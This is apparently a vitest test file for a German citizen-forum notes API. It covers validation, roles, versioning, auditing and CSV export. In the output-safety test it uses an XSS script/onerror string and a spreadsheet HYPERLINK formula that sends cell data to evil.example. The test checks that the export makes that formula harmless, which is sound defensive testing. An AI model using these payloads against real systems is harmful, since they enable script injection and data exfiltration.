import { beforeEach, describe, expect, it } from 'vitest';
import { useTestApp, type TestClient } from '../../test/test-app.ts';
import { countNotes } from './forum-notes.service.ts';
import { createEventWithSession, createForum } from './session-results.fixtures.ts';

const XSS = '<script>alert(1)</script> "><img src=x onerror=alert(1)>';
const note = (extra: object = {}) => ({
  text: 'Pendelt täglich nach Zwickau, der Bus fährt abends nicht mehr.',
  topics: ['mobilitaet'],
  district: '14521',
  sessionId: null,
  ...extra,
});

describe('Bürgerforum notes', () => {
  const t = useTestApp();
  let staff: TestClient;
  beforeEach(async () => {
    staff = (await t.signIn({ role: 'staff', org: 'ihk-chemnitz' })).client;
  });
  const url = (eventId: string) => `/api/events/${eventId}/forum-notes`;
  const noteCount = async (eventId: string) =>
    (await t.database.db.selectFrom('forum_note').select('id').where('event_id', '=', eventId).execute()).length;

  async function add(eventId: string, extra: object = {}) {
    t.advance(60_000);
    const res = await staff.post(url(eventId), note(extra));
    expect(res.statusCode, res.body).toBe(201);
    return res.json<{ id: string; version: number }>();
  }

  it('records notes and counts them per topic and per district, with filters', async () => {
    const f = await createForum(t);
    await add(f.id, { topics: ['mobilitaet', 'sorge'], district: '14521', sessionId: f.sessionId });
    await add(f.id, { topics: ['idee'], district: '14511' });
    await add(f.id, { topics: ['sorge', 'frage_politik'], district: '14521' });
    await add(f.id, { topics: ['frage_politik'], district: 'ausserhalb' });

    const all = (await staff.get(url(f.id))).json();
    expect(all.total).toBe(4);
    expect(all.byTopic).toEqual([
      { key: 'mobilitaet', count: 1 },
      { key: 'sorge', count: 2 },
      { key: 'idee', count: 1 },
      { key: 'frage_politik', count: 2 },
    ]);
    expect(all.byDistrict).toEqual([
      { key: '14511', count: 1 },
      { key: '14521', count: 2 },
      { key: '14522', count: 0 },
      { key: '14523', count: 0 },
      { key: '14524', count: 0 },
      { key: 'ausserhalb', count: 1 },
    ]);
    expect(all.sessions).toEqual([{ id: f.sessionId, title: 'Workshop Kreislaufwirtschaft' }]);
    expect(all.items[0]).toMatchObject({
      topics: ['frage_politik'],
      district: 'ausserhalb',
      createdBy: expect.stringContaining('Test staff'),
    });

    const sorge = (await staff.get(`${url(f.id)}?thema=sorge`)).json();
    expect(sorge.total).toBe(2);
    expect(sorge.byDistrict.find((d: { key: string }) => d.key === '14521').count).toBe(2);
    const both = (await staff.get(`${url(f.id)}?thema=sorge&kreis=14521`)).json();
    expect(both.total).toBe(2);
    const none = (await staff.get(`${url(f.id)}?thema=idee&kreis=14521`)).json();
    expect(none.total).toBe(0);
    expect((await staff.get(`${url(f.id)}?thema=unbekannt`)).statusCode).toBe(400);
    expect((await staff.get(`${url(f.id)}?kreis=99999`)).statusCode).toBe(400);
  });

  it('needs at least one topic and a known district (400, nothing stored)', async () => {
    const f = await createForum(t);
    for (const body of [
      note({ topics: [] }),
      note({ topics: ['wetter'] }),
      note({ topics: ['idee', 'idee'] }),
      note({ district: '14000' }),
      note({ district: 'Chemnitz' }),
      note({ text: '' }),
      note({ text: 'x'.repeat(1001) }),
      note({ sessionId: crypto.randomUUID() }),
    ]) {
      const res = await staff.post(url(f.id), body);
      expect(res.statusCode, JSON.stringify(body).slice(0, 80)).toBe(400);
    }
    const noTopic = await staff.post(url(f.id), note({ topics: [] }));
    expect(noTopic.json().error.fields[0].message).toContain('mindestens ein Thema');
    expect(await noteCount(f.id)).toBe(0);
    // Exactly 1,000 characters are fine.
    expect((await staff.post(url(f.id), note({ text: 'ä'.repeat(1000) }))).statusCode).toBe(201);
  });

  it('exists only for a Bürgerforum or an event with one on its programme', async () => {
    const other = await createEventWithSession(t, { format: 'kongress', sessionType: 'vortrag' });
    const res = await staff.post(url(other.id), note());
    expect(res.statusCode).toBe(409);
    expect(res.json().error.code).toBe('forum_note.not_a_forum');
    const withForumSession = await createEventWithSession(t, { format: 'zukunftsforum', sessionType: 'buergerforum' });
    expect((await staff.post(url(withForumSession.id), note({ sessionId: withForumSession.sessionId }))).statusCode).toBe(201);
  });

  it('keeps <script> byte-exact in JSON and exports formula-safe CSV', async () => {
    const f = await createForum(t);
    await add(f.id, { text: XSS });
    await add(f.id, { text: '=HYPERLINK("https://evil.example/?d="&A1,"Klick")', topics: ['idee', 'sorge'], district: '14524' });
    const items = (await staff.get(url(f.id))).json().items as { text: string }[];
    expect(items.map((n) => n.text)).toContain(XSS);

    const csv = await staff.get(`${url(f.id)}.csv`);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="buergerforum-${f.slug}.csv"`);
    expect(csv.body.startsWith('\uFEFFErfasst am;Programmpunkt;Kreis;Kreisschlüssel;Themen;Notiz\r\n')).toBe(true);
    expect(csv.body).toContain(`;Zwickau;14524;Idee, Sorge;"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klick"")"\r\n`);
    expect(csv.body).not.toMatch(/;=HYPERLINK/);
    const filtered = await staff.get(`${url(f.id)}.csv?kreis=14524`);
    expect(filtered.body.trim().split('\r\n')).toHaveLength(2);
    const exported = await t.database.db.selectFrom('audit_event').select('action').where('action', '=', 'forum_notes.exported').execute();
    expect(exported.length).toBeGreaterThanOrEqual(2);
  });

  it('lets any staff member correct or delete a note (optimistic version), analysts only read, the public nothing', async () => {
    const f = await createForum(t);
    const n = await add(f.id);
    const colleague = (await t.signIn({ role: 'staff', org: 'amz' })).client;
    const changed = await colleague.request('PUT', `${url(f.id)}/${n.id}`, { ...note({ topics: ['sorge'] }), version: 1 });
    expect(changed.statusCode, changed.body).toBe(200);
    expect(changed.json()).toMatchObject({ topics: ['sorge'], version: 2 });
    const stale = await staff.request('PUT', `${url(f.id)}/${n.id}`, { ...note({ text: 'Verloren' }), version: 1 });
    expect(stale.statusCode).toBe(409);
    expect(stale.json().error.code).toBe('forum_note.version_conflict');

    const analyst = (await t.signIn({ role: 'analyst', org: 'ihk-chemnitz' })).client;
    expect((await analyst.get(url(f.id))).statusCode).toBe(200);
    expect((await analyst.get(`${url(f.id)}.csv`)).statusCode).toBe(200);
    expect((await analyst.post(url(f.id), note())).statusCode).toBe(403);
    expect((await analyst.delete(`${url(f.id)}/${n.id}`)).statusCode).toBe(403);
    expect((await t.client().get(url(f.id))).statusCode).toBe(401);

    expect((await colleague.delete(`${url(f.id)}/${n.id}`)).statusCode).toBe(200);
    expect((await colleague.delete(`${url(f.id)}/${n.id}`)).statusCode).toBe(404);
    expect(await noteCount(f.id)).toBe(0);
    const audit = await t.database.db.selectFrom('audit_event').selectAll().where('target_id', '=', n.id).execute();
    expect(audit.map((a) => a.action)).toEqual(['forum_note.deleted']);
    // The log keeps which note, not what it said.
    expect(audit[0]!.details).not.toContain('Bus');
  });

  it('answers 404 for a note of another event', async () => {
    const a = await createForum(t);
    const b = await createForum(t);
    const n = await add(a.id);
    expect((await staff.request('PUT', `${url(b.id)}/${n.id}`, { ...note(), version: 1 })).statusCode).toBe(404);
    expect((await staff.delete(`${url(b.id)}/${n.id}`)).statusCode).toBe(404);
  });
});

describe('countNotes', () => {
  it('counts a note under each of its topics and lists every key', () => {
    const counts = countNotes([
      { topics: ['idee', 'sorge'], district: '14522' },
      { topics: ['idee'], district: '14522' },
    ]);
    expect(counts.byTopic.find((c) => c.key === 'idee')?.count).toBe(2);
    expect(counts.byTopic.find((c) => c.key === 'mobilitaet')?.count).toBe(0);
    expect(counts.byDistrict.find((c) => c.key === '14522')?.count).toBe(2);
    expect(counts.byDistrict).toHaveLength(6);
  });
});
